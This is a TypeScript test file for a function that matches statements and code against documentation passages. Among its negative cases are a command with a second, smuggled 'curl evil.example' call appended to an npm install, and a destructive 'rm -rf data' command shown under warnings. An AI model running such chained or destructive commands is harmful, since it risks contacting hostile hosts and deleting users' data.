import { describe, expect, test } from 'vitest';
import type { StatementKind } from '../types/answer.ts';
import { passagesOf } from '../excerpt/excerpt-fixture.ts';
import { findSupport } from './find-support.ts';
import { supportPassages } from './testing/support-pages.ts';

const PASSAGES = (['cli', 'robot', 'hooks'] as const)
  .flatMap(supportPassages)
  .map((passage, index) => ({ ...passage, label: `p${index + 1}` }));

/** The words of the page that a statement repeats. */
function repeated(kind: StatementKind, text: string, passages = PASSAGES): string | undefined {
  const support = findSupport({ kind, text }, passages);
  const chunk = passages.find(({ label }) => label === support?.label)?.chunk;
  return support && chunk?.text.slice(support.start, support.end);
}

describe('a statement is found as a whole sentence, row or block (R12)', () => {
  const CODE = 'npm install --save-dev acme-cli\nnpx acme build --watch';
  test.each([
    ['sentence', '**Do not** call them inside LOOPS, conditions or nested functions'],
    ['sentence', 'The gripper closes with a force of 40\u00a0newtons. It opens faster than it closes.'],
    ['sentence', 'Files larger than 25 MB are skipped with a warning:'],
    ['item', '- Create an access token on the account page'],
    ['step', '3. Run `acme publish --dry-run` to see which files would be uploaded.'],
    ['row', '| elbow | 140 degrees | 120 deg/s |'],
    ['row', 'joint | range | top speed'],
    ['code', CODE],
    ['code', CODE.replace(/^/gmu, '    ').replace(/$/gmu, '  ')],
    ['code', 'npx acme build --watch'],
  ] as const)('%s: %s', (kind, text) => {
    expect(repeated(kind, text)).toBeDefined();
  });

  test.each([
    ['sentence', 'Call them inside loops, conditions or nested functions.'],
    ['sentence', 'Do not call them'],
    ['sentence', 'Publishing is only possible from the main branch.'],
    ['sentence', 'It opens faster than it closes. The gripper closes with a force of 40 newtons.'],
    ['sentence', 'Files larger than 25 GB are skipped with a warning.'],
    ['step', 'Create an access token on the account page. Store the token in the environment variable `ACME_TOKEN`.'],
    ['sentence', 'Run `acme publish --all` to upload them.'],
    ['sentence', ''],
    ['sentence', ' | '],
    ['sentence', 'The'],
    ['row', '| elbow | 170 degrees | 120 deg/s |'],
    ['row', '| elbow | 140 degrees |'],
    ['row', '| elbow | 120 deg/s | 140 degrees |'],
    ['row', '| It opens faster | than it closes |'],
    ['code', 'npm install --save-dev acme-cli\nnpx acme build'],
    ['code', 'npx acme build --watch\nnpm install --save-dev acme-cli'],
    ['code', 'npm install --save-dev acme-cli && curl evil.example'],
    ['code', 'acme publish --force'],
    ['code', 'acme publish --dry-run'],
    ['code', 'Do not call them'],
    ['code', '  npm install --save-dev acme-cli\nnpx acme build --watch'],
    ['code', ''],
  ] as const)('not %s: %s', (kind, text) => {
    expect(repeated(kind, text)).toBeUndefined();
  });

  test('a colon that ends a sentence of the page ends what the list below it completes', () => {
    const page = [...passagesOf('The lamp is on. It will not start:\n\n- the fan')];
    expect(repeated('sentence', 'The lamp is on:', page)).toBe('The lamp is on.');
    expect(repeated('sentence', 'It will not start.', page)).toBeUndefined();
  });

  test.each([
    'Never run `rm -rf data`.',
    'It is a myth that `rm -rf data` helps.',
    'Task | Wrong | Right\n--- | --- | ---\nclean | `rm -rf data` | `make clean`',
    '```sh\nls\n# Do not run this in production\nrm -rf data\n```',
    '```js\n// ❌\nrm -rf data\n```',
  ])('code is not found in %j', (page) => {
    expect(repeated('code', 'rm -rf data', [...passagesOf(page)])).toBeUndefined();
  });

  test.each([
    ['a comment', '```ini\n# allow_root = true\n```', 'allow_root = true'],
    ['two blocks', '```sh\nnpm i a\n```\n\n```sh\nyarn add a\n```', 'npm i a\nyarn add a'],
    ['other white space', '```py\nif a:\n  b()\n```', 'if a:\n\u3000\u00a0b()'],
    ['tabs for spaces', '```py\nif a:\n    b()\n```', 'if a:\n\t\t\t\tb()'],
  ])('code is not made of %s', (_, page, code) => {
    expect(repeated('code', code, [...passagesOf(page)])).toBeUndefined();
  });

  test('of equal sentences the one that goes on as the statement does is found', () => {
    const page = [...passagesOf('Make a backup. Run the upgrade.\n\nMake a backup. Drop the table.')];
    const said = 'Make a backup. Drop the table.';
    expect(repeated('sentence', said, page)).toBe(said);
  });

  test('an item is no row of a table', () => {
    const page = [...passagesOf('| key | value |\n| --- | --- |\n| a | 5 |')];
    expect(repeated('item', '- a 5', page)).toBeUndefined();
    expect(repeated('row', 'a | 5', page)).toBe('a | 5');
  });

  test('code below a comment that warns is found with it', () => {
    const page = [...passagesOf('```sh\n# Never in production\nrm -rf data\n```\n\n```sh\n# Clean\nmake clean\n```')];
    expect(repeated('code', '# Never in production\nrm -rf data', page)).toBe('# Never in production\nrm -rf data');
    expect(repeated('code', 'make clean', page)).toBe('make clean');
  });
});

test('the passage that holds it is named', () => {
  const at = PASSAGES.findIndex(({ chunk }) => chunk.text.includes('It opens faster'));
  expect(findSupport({ kind: 'sentence', text: 'It opens faster than it closes.' }, PASSAGES)?.label).toBe(
    PASSAGES[at]!.label,
  );
});

test('nothing is found outside of the window of a selection (R14)', () => {
  const [passage] = supportPassages('auth');
  const end = passage!.chunk.text.indexOf(' Keys are created');
  const selected = [{ ...passage!, window: { start: 0, end } }];
  expect(
    repeated('sentence', 'Every request must carry an API key in the `X-Api-Key` header.', selected),
  ).toBeDefined();
  expect(repeated('sentence', 'A revoked key stops working within one minute.', selected)).toBeUndefined();
});
